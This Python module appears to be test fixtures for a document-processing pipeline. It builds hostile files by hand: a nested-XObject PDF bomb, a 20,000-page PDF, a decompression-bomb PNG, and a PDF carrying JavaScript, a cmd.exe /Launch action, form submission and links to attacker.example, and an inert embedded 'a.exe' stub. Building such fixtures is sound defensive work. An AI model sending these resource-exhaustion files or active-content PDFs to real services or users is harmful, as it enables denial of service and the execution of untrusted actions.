"""Hostile files built by hand, byte by byte: what an attacker (or a broken tool) can send.

- `nested_xobject_pdf`: a PDF of ~2 KB whose pages draw a form XObject that draws the next one
  `fanout` times, `depth` levels deep; the last draws a line of text. The text a reader would
  produce is fanout**depth lines a page: a few bytes that expand to gigabytes of work.
- `many_pages_pdf`: a PDF of `pages` pages that all share one content stream (20,000 pages in ~3 MB).
- `active_pdf`: a small PDF whose page and annotations carry every kind of action a reader runs
  (/AA JavaScript, /OpenAction, /URI, /Launch, /SubmitForm, /ImportData, an embedded file).
"""

from __future__ import annotations

import zlib


def _assemble(objects: list[bytes], root: int = 1, extra_trailer: bytes = b"") -> bytes:
    """A PDF with a correct cross-reference table from numbered object bodies (1-based)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root %d 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, root, extra_trailer, xref)
    return bytes(out)


def _stream(data: bytes, dictionary: bytes = b"", compress: bool = False) -> bytes:
    if compress:
        data = zlib.compress(data, 9)
        dictionary += b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n" % (len(data), dictionary) + data + b"\nendstream"


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def nested_xobject_pdf(depth: int = 12, fanout: int = 4, pages: int = 1, visible: bool = False
                       ) -> bytes:
    """`pages` pages that each draw XObject 0; XObject k draws XObject k+1 `fanout` times; the
    deepest draws a line of text. `visible`: each page also draws a line of text itself, so a
    preflight that looks at page content sees a text layer."""
    # objects: 1 catalog, 2 pages, 3 page content, 4 font, 5.. the XObjects, then the pages
    first = 5
    first_page = first + depth
    kids = b" ".join(b"%d 0 R" % (first_page + i) for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        _stream((b"BT /F1 12 Tf 72 720 Td (Work report) Tj ET " if visible else b"") + b"/X Do"),
        FONT,
    ]
    for level in range(depth):
        if level == depth - 1:
            content = b"BT /F1 8 Tf 9 9 Td (Nested form XObject text) Tj ET"
            resources = b"/Resources << /Font << /F1 4 0 R >> >>"
        else:
            content = b" ".join([b"/X Do"] * fanout)
            resources = b"/Resources << /XObject << /X %d 0 R >> >>" % (first + level + 1)
        objects.append(_stream(content, b" /Subtype /Form /BBox [0 0 9 9] " + resources))
    for _ in range(pages):
        objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R "
                       b"/Resources << /XObject << /X %d 0 R >> /Font << /F1 4 0 R >> >> >>" % first)
    return _assemble(objects)


def many_pages_pdf(pages: int = 20_000) -> bytes:
    """`pages` pages sharing one content stream and one font (a few hundred bytes per page)."""
    first_page = 5
    kids = b" ".join(b"%d 0 R" % (first_page + i) for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        _stream(b"BT /F1 24 Tf 72 720 Td (A page of many) Tj ET"),
        FONT,
    ]
    for _ in range(pages):
        objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R "
                       b"/Resources << /Font << /F1 4 0 R >> >> >>")
    return _assemble(objects)


def active_pdf() -> bytes:
    """One page with page actions, link and widget annotations that run things, an attachment,
    a document-level JavaScript name tree and an /OpenAction."""
    js = b"<< /S /JavaScript /JS (app.alert\\('pwned'\\);) >>"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript << /Names "
        b"[(x) 6 0 R] >> /EmbeddedFiles << /Names [(a.exe) 11 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> /AA << /O 6 0 R /C 6 0 R >> "
        b"/Annots [7 0 R 8 0 R 9 0 R 10 0 R 12 0 R] >>",
        _stream(b"BT /F1 24 Tf 72 720 Td (Active content) Tj ET"),
        FONT,
        js,
        b"<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] "
        b"/A << /S /URI /URI (http://attacker.example/) >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [72 560 300 580] "
        b"/A << /S /Launch /F (cmd.exe) /Next 6 0 R >> >>",
        b"<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [72 520 300 540] /T (b) "
        b"/A << /S /SubmitForm /F << /FS /URL /F (http://attacker.example/post) >> >> "
        b"/AA << /E 6 0 R >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [72 480 300 500] "
        b"/A << /S /ImportData /F (data.fdf) >> >>",
        b"<< /Type /Filespec /F (a.exe) /EF << /F 13 0 R >> >>",
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 440 90 460] /FS 11 0 R >>",
        _stream(b"MZ not really a program", b" /Type /EmbeddedFile"),
    ]
    return _assemble(objects)


def huge_png(width: int = 8_940, height: int = 8_940) -> bytes:
    """A PNG under the pixel cap that is large when decoded (8,940² RGB ≈ 240 MB), small on disk."""
    import io

    from PIL import Image, ImageDraw

    img = Image.new("RGB", (width, height), "white")
    draw = ImageDraw.Draw(img)
    for y in range(0, height, 97):
        draw.line([(0, y), (width, y)], fill=(20, 20, 120), width=3)
    draw.rectangle([width // 4, height // 4, width // 2, height // 2], outline="black", width=25)
    out = io.BytesIO()
    img.save(out, "PNG")
    return out.getvalue()
